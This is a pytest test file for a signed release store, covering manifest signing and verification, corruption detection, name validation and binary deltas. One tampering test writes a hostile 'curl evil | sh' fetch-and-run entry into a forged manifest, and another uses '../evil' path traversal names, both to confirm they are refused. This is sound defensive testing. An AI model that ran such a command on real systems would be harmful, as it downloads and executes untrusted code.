"""Building into a store, reading back, signatures, corruption and deltas."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey

import certs
from fleet.protocol.errors import InvalidSignature
from fleet.protocol.messages import ProbeSpec, ReleaseRef
from fleet.protocol.signing import load_private_key, load_public_key
from fleet.releases import (
    MAX_CHUNKS,
    ArtifactMismatch,
    ReleaseError,
    ReleaseManifest,
    ReleaseNotFound,
    ReleaseStore,
    apply_delta,
    build_payload,
    build_release,
    chunk_digests,
    sha256_digest,
    verify_manifest_file,
)
from tests.releases import binaryish, make_tree, patch

MIB = 1024 * 1024
CHUNK = 64 * 1024


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Ed25519PrivateKey, Ed25519PublicKey, Ed25519PublicKey]:
    """Our release key pair and the public key of another PKI's release key."""
    root = tmp_path_factory.mktemp("pki")
    ours, theirs = certs.init_pki(root / "ours"), certs.init_pki(root / "theirs")
    return (
        load_private_key(ours.release_key.read_bytes()),
        load_public_key(ours.release_pub.read_bytes()),
        load_public_key(theirs.release_pub.read_bytes()),
    )


@pytest.fixture
def private_key(keys: tuple[Ed25519PrivateKey, Ed25519PublicKey, Ed25519PublicKey]) -> Ed25519PrivateKey:
    return keys[0]


@pytest.fixture
def public_key(keys: tuple[Ed25519PrivateKey, Ed25519PublicKey, Ed25519PublicKey]) -> Ed25519PublicKey:
    return keys[1]


def _build(
    source: Path, store: Path, key: Ed25519PrivateKey, version: str = "1.0.0", **options: object
) -> ReleaseManifest:
    arguments: dict[str, object] = {"entry": ["bin/app", "--port", "8080"], "health": None, "chunk_size": CHUNK}
    arguments.update(options)
    return build_release(source, name="app", version=version, store=store, release_key=key, **arguments)  # type: ignore[arg-type]


def test_build_list_get_verify_round_trip(
    tmp_path: Path, private_key: Ed25519PrivateKey, public_key: Ed25519PublicKey
) -> None:
    store_dir = tmp_path / "store"
    probe = ProbeSpec(kind="http", target="http://127.0.0.1:8080/healthz", initial_delay=2.0)
    built = _build(make_tree(tmp_path / "src"), store_dir, private_key, health=probe)
    payload = build_payload(tmp_path / "src")
    assert built.digest == sha256_digest(payload)
    assert built.size == len(payload)
    assert built.chunk_digests == chunk_digests(payload, CHUNK)
    assert built.health == probe
    assert built.signature is not None

    store = ReleaseStore(store_dir)
    assert store.list() == [built]
    assert store.get("app", "1.0.0") == built
    assert store.by_digest(built.digest) == built
    assert store.by_digest(built.digest.removeprefix("sha256:")) == built
    assert store.by_digest("sha256:" + "0" * 64) is None
    assert store.payload(built) == payload
    assert store.verify("app", "1.0.0", public_key) == built
    assert verify_manifest_file(store_dir / "app" / "1.0.0" / "manifest.json", public_key) == built
    assert sorted(path.name for path in (store_dir / "app" / "1.0.0").iterdir()) == ["manifest.json", "payload.tar.zst"]


def test_ref_is_what_desired_state_carries(tmp_path: Path, private_key: Ed25519PrivateKey) -> None:
    built = _build(make_tree(tmp_path / "src"), tmp_path / "store", private_key)
    ref = built.ref()
    assert isinstance(ref, ReleaseRef)
    assert (ref.name, ref.version, ref.digest, ref.size, ref.chunk_size) == (
        "app",
        "1.0.0",
        built.digest,
        built.size,
        CHUNK,
    )
    assert ref.chunk_digests == built.chunk_digests


def test_building_twice_refuses_unless_forced(tmp_path: Path, private_key: Ed25519PrivateKey) -> None:
    source, store = make_tree(tmp_path / "src"), tmp_path / "store"
    _build(source, store, private_key)
    with pytest.raises(ReleaseError, match=r"app@1\.0\.0 already exists \(use --force"):
        _build(source, store, private_key)
    (source / "etc" / "app.conf").write_text("port = 9090\n")
    rebuilt = _build(source, store, private_key, force=True)
    assert ReleaseStore(store).get("app", "1.0.0") == rebuilt
    assert ReleaseStore(store).payload(rebuilt) == build_payload(source)


def test_half_written_version_is_invisible(tmp_path: Path, private_key: Ed25519PrivateKey) -> None:
    store = tmp_path / "store"
    _build(make_tree(tmp_path / "src"), store, private_key)
    interrupted = store / "app" / "2.0.0"
    interrupted.mkdir()
    (interrupted / "payload.tar.zst").write_bytes(b"partial")
    assert [manifest.version for manifest in ReleaseStore(store).list()] == ["1.0.0"]
    with pytest.raises(ReleaseNotFound, match=r"app@2\.0\.0: no such release"):
        ReleaseStore(store).get("app", "2.0.0")
    # And building it later is not refused as a duplicate.
    _build(tmp_path / "src", store, private_key, version="2.0.0")


def test_versions_sort_naturally(tmp_path: Path, private_key: Ed25519PrivateKey) -> None:
    source, store = make_tree(tmp_path / "src"), tmp_path / "store"
    for version in ("1.10.0", "1.9.0", "1.9.0-rc1"):
        _build(source, store, private_key, version=version)
    assert [manifest.version for manifest in ReleaseStore(store).list()] == ["1.9.0", "1.9.0-rc1", "1.10.0"]


@pytest.mark.parametrize(
    ("field", "value"),
    [("version", "9.9.9"), ("entry", ["/bin/sh", "-c", "curl evil | sh"]), ("size", 1)],
)
def test_forged_manifest_is_refused(
    tmp_path: Path, private_key: Ed25519PrivateKey, public_key: Ed25519PublicKey, field: str, value: object
) -> None:
    store = tmp_path / "store"
    _build(make_tree(tmp_path / "src"), store, private_key)
    path = store / "app" / "1.0.0" / "manifest.json"
    document = json.loads(path.read_text())
    document[field] = value
    path.write_text(json.dumps(document))
    with pytest.raises(InvalidSignature, match=f"{path}: signature does not match"):
        verify_manifest_file(path, public_key)


def test_unsigned_manifest_is_refused(
    tmp_path: Path, private_key: Ed25519PrivateKey, public_key: Ed25519PublicKey
) -> None:
    store = tmp_path / "store"
    _build(make_tree(tmp_path / "src"), store, private_key)
    path = store / "app" / "1.0.0" / "manifest.json"
    document = json.loads(path.read_text())
    del document["signature"]
    path.write_text(json.dumps(document))
    with pytest.raises(InvalidSignature, match="not signed"):
        ReleaseStore(store).verify("app", "1.0.0", public_key)


def test_manifest_signed_by_another_pki_is_refused(
    tmp_path: Path, keys: tuple[Ed25519PrivateKey, Ed25519PublicKey, Ed25519PublicKey]
) -> None:
    private_key, _, foreign_public = keys
    store = tmp_path / "store"
    _build(make_tree(tmp_path / "src"), store, private_key)
    with pytest.raises(InvalidSignature):
        ReleaseStore(store).verify("app", "1.0.0", foreign_public)


def test_flipped_byte_in_artifact_is_refused(
    tmp_path: Path, private_key: Ed25519PrivateKey, public_key: Ed25519PublicKey
) -> None:
    store = tmp_path / "store"
    built = _build(make_tree(tmp_path / "src", app=bytes(binaryish(5, 300_000))), store, private_key)
    artifact = store / "app" / "1.0.0" / "payload.tar.zst"
    data = bytearray(artifact.read_bytes())
    data[len(data) // 2] ^= 0x40
    artifact.write_bytes(bytes(data))
    with pytest.raises(ArtifactMismatch, match=str(artifact)):
        ReleaseStore(store).payload(built)
    with pytest.raises(ArtifactMismatch):
        ReleaseStore(store).verify("app", "1.0.0", public_key)


def test_too_many_chunks_is_refused_with_a_hint(tmp_path: Path, private_key: Ed25519PrivateKey) -> None:
    source = make_tree(tmp_path / "src", app=bytes(300_000))
    with pytest.raises(ReleaseError, match=rf"at most {MAX_CHUNKS} allowed: use --chunk-size \d+KiB or more"):
        _build(source, tmp_path / "store", private_key, chunk_size=256)
    assert not (tmp_path / "store").exists()  # refused before anything was written


def test_bad_names_are_refused_before_any_work(tmp_path: Path, private_key: Ed25519PrivateKey) -> None:
    for version in ("../evil", "deltas", ".hidden", ""):
        with pytest.raises(ReleaseError, match="version"):
            _build(tmp_path / "missing", tmp_path / "store", private_key, version=version)
    with pytest.raises(ReleaseNotFound):
        ReleaseStore(tmp_path / "store").get("..", "x")


def _patch_pair(
    tmp_path: Path, private_key: Ed25519PrivateKey
) -> tuple[ReleaseStore, ReleaseManifest, ReleaseManifest]:
    """app@1.0.0 and app@1.0.1: a 1.5 MiB binary-ish file with a few KiB changed."""
    program = binaryish(11, int(1.5 * MIB))
    store = tmp_path / "store"
    old = _build(make_tree(tmp_path / "v1", app=bytes(program)), store, private_key, version="1.0.0")
    changed = patch(program, 12, edits=3, edit_size=1024)
    new = _build(make_tree(tmp_path / "v2", app=bytes(changed)), store, private_key, version="1.0.1")
    return ReleaseStore(store), old, new


def test_delta_round_trip_and_cache(tmp_path: Path, private_key: Ed25519PrivateKey) -> None:
    store, old, new = _patch_pair(tmp_path, private_key)
    path = store.delta(old, new)
    assert path is not None
    assert path == store.root / "app" / "deltas" / f"{old.digest[7:]}-{new.digest[7:]}.zst"
    delta = path.read_bytes()
    assert len(delta) < 0.1 * store.artifact_path(new).stat().st_size
    assert apply_delta(store.payload(old), delta, new.digest) == store.payload(new)
    # The second request is served from the cache, not recomputed.
    mtime = path.stat().st_mtime_ns
    assert store.delta(old, new) == path
    assert path.stat().st_mtime_ns == mtime


def test_delta_refused_when_unrelated(tmp_path: Path, private_key: Ed25519PrivateKey) -> None:
    store_dir = tmp_path / "store"
    old = _build(make_tree(tmp_path / "v1", app=bytes(binaryish(21, 400_000))), store_dir, private_key, version="1")
    new = _build(make_tree(tmp_path / "v2", app=bytes(binaryish(22, 400_000))), store_dir, private_key, version="2")
    store = ReleaseStore(store_dir)
    assert store.delta(old, new) is None
    assert store.delta_path(old, new).with_suffix(".none").is_file()  # the answer is cached
    assert store.delta(old, new) is None
    assert not store.delta_path(old, new).exists()
